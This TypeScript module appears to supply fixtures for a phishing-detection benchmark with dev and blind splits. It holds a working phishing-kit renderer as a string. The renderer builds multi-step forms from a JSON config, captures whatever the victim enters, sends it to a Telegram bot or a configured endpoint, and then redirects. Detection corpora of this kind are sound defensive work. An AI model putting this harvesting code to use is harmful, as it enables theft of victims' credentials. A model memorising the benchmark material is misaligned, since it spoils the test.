import type { Route } from '../../corpus/corpus.js';

/** Helpers shared by dev/c-json-kits.ts and blind/c-json-kits.ts (the same family's pages in both splits). */
// "Kit as data": a generic renderer whose brand, copy and fields arrive as JSON.
export const raw = String.raw;
export const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
export const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json; charset=utf-8', 'access-control-allow-origin': '*' }, body: JSON.stringify(v) });

/** The same generic renderer shows up on many hosts (kits get resold); each copy is served by its own host. */
export const renderer = raw`(async function(){
  var root = document.getElementById('root') || document.body;
  var cfgUrl = (document.currentScript && document.currentScript.dataset.cfg) || '/api/config';
  var C = await fetch(cfgUrl, {cache:'no-store'}).then(function(r){return r.json()});
  document.title = C.title;
  if (C.favicon) { var l=document.createElement('link'); l.rel='icon'; l.href=C.favicon; document.head.appendChild(l); }
  var s = document.createElement('style'); s.textContent = C.css; document.head.appendChild(s);
  var data = { sid: Math.random().toString(16).slice(2), lang: navigator.language };
  var i = 0;
  function show(){
    var st = C.steps[i];
    var h = '<div class="kx"><div class="kx-logo">'+C.logo+'</div><h1>'+st.heading+'</h1>'+(st.text?'<p class="kx-t">'+st.text+'</p>':'');
    st.fields.forEach(function(f){ h += '<label>'+f.label+'</label><input name="'+f.name+'" type="'+(f.type||'text')+'"'+(f.max?' maxlength="'+f.max+'"':'')+'>'; });
    h += '<div class="kx-e"></div><button>'+st.button+'</button>'+(C.footer?'<div class="kx-f">'+C.footer+'</div>':'')+'</div>';
    root.innerHTML = h;
    root.querySelector('button').onclick = function(){
      var ok = true;
      root.querySelectorAll('input').forEach(function(x){ if(!x.value) ok=false; data[x.name]=x.value; });
      if(!ok){ root.querySelector('.kx-e').textContent = C.required; return; }
      var body = JSON.stringify({step: st.id, data: data});
      var p = C.bot ? fetch('https://api.telegram.org/bot'+C.bot.t+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C.bot.c,text:'['+C.tag+'] '+st.id+'\n'+JSON.stringify(data)})}) : fetch(C.post,{method:'POST',headers:{'Content-Type':'text/plain'},body:body});
      p.catch(function(){}).then(function(){ i++; if(i < C.steps.length) show(); else location.replace(C.done); });
    };
  }
  show();
})();`;
